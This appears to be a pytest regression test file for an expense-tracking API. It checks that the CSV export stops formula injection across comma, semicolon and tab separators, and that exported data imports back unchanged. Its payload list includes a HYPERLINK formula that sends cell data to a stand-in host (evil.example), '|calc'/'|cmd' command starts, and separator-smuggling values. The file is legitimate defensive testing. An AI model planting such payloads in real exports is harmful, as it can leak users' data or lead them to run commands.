"""Attack class: CSV formula injection, locale variant (issue 18, finding 13).

The export quoted a cell that starts with a formula character, but a spreadsheet set to split on
`;` (the default where `,` is the decimal mark), on tabs, or that breaks records at a line end
inside a field, starts a new cell in the middle of ours: `;=1+1` became the formula `=1+1`. Here
the real export is read as a spreadsheet would, splitting on each separator, and no cell may start
like a formula; and what the export wrote imports back unchanged.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests.api.bug_helpers import make_project
from tests.api.expense_helpers import URL, csv_import, make_expense
from tests.conftest import auth_headers

FORMULA_START = ("=", "+", "-", "@", "|", "%", "\t", "\r")
PAYLOADS = [
    ";=1+1",
    'Lunch;=HYPERLINK("http://evil.example/?"&A1)',
    "a,=1+1",
    "a\t=1+1",
    "a;+1",
    "a;-1+2",
    "a;@SUM(A1)",
    "a;|calc",
    "a;%0A",
    'a;"=1+1"',
    "a;'=1+1",
    "a;;=1",
    "note\n=1+1",
    "note\r\n+1",
    "|cmd",
    "%APPDATA%",
    "=1+1",
    "'=x;=y",
]
SEPARATORS = [",", ";", "\t"]


def _cells_as_a_spreadsheet_reads_them(text: str, separator: str) -> list[str]:
    """Every cell, read two ways: a CSV parser with this separator, and the naive reading that
    breaks records at every line end (quoted or not) and cells at every separator."""
    cells = [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        for cell in row
    ]
    for line in text.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
        cells.extend(line.split(separator))
    return cells


def _formula_cells(text: str, separator: str) -> list[str]:
    return [
        cell
        for cell in _cells_as_a_spreadsheet_reads_them(text, separator)
        if cell.startswith(FORMULA_START) or cell.lstrip('"').startswith(FORMULA_START)
    ]


@pytest.mark.parametrize("separator", SEPARATORS, ids=["comma", "semicolon", "tab"])
@pytest.mark.parametrize("payload", PAYLOADS)
async def test_no_exported_cell_reads_as_a_formula(client, tester, payload, separator):
    await make_expense(client, tester, amount="1.00", description=payload)
    r = await client.get(f"{URL}/export.csv", headers=auth_headers(tester))
    assert r.status_code == 200
    assert _formula_cells(r.text, separator) == [], r.text


async def test_category_names_are_neutralised_too(client, admin, tester):
    r = await client.post(
        "/api/v1/expense-categories", json={"name": "Fees;=1+1"}, headers=auth_headers(admin)
    )
    assert r.status_code == 201, r.text
    await make_expense(client, tester, amount="1.00", category_id=r.json()["id"])
    exported = (await client.get(f"{URL}/export.csv", headers=auth_headers(tester))).text
    for separator in SEPARATORS:
        assert _formula_cells(exported, separator) == [], exported


async def test_what_the_export_wrote_imports_back_unchanged(client, admin, tester):
    project = await make_project(client, admin, tester)
    for payload in PAYLOADS:
        await make_expense(
            client, tester, amount="1.00", description=payload, project_id=project["id"]
        )
    exported = (await client.get(f"{URL}/export.csv", headers=auth_headers(tester))).text
    r = await csv_import(client, admin, exported)
    assert r.status_code == 200, r.text
    theirs = (
        await client.get(
            URL, params={"user_id": admin.id, "limit": 200}, headers=auth_headers(admin)
        )
    ).json()["items"]
    mine = (await client.get(URL, params={"limit": 200}, headers=auth_headers(tester))).json()[
        "items"
    ]
    assert sorted(e["description"] for e in theirs) == sorted(e["description"] for e in mine)


@pytest.mark.parametrize("start", ["|", "%"])
async def test_an_import_refuses_the_new_formula_starts_unless_escaped(client, tester, start):
    header = "spent_on,amount,currency,category,description\n"
    r = await csv_import(client, tester, header + f"2026-03-29,1.00,EUR,Meals,{start}x\n")
    assert r.status_code == 422, r.text
    r = await csv_import(client, tester, header + f"2026-03-29,1.00,EUR,Meals,'{start}x\n")
    assert r.status_code == 200, r.text
    items = (await client.get(URL, headers=auth_headers(tester))).json()["items"]
    assert [e["description"] for e in items] == [f"{start}x"]
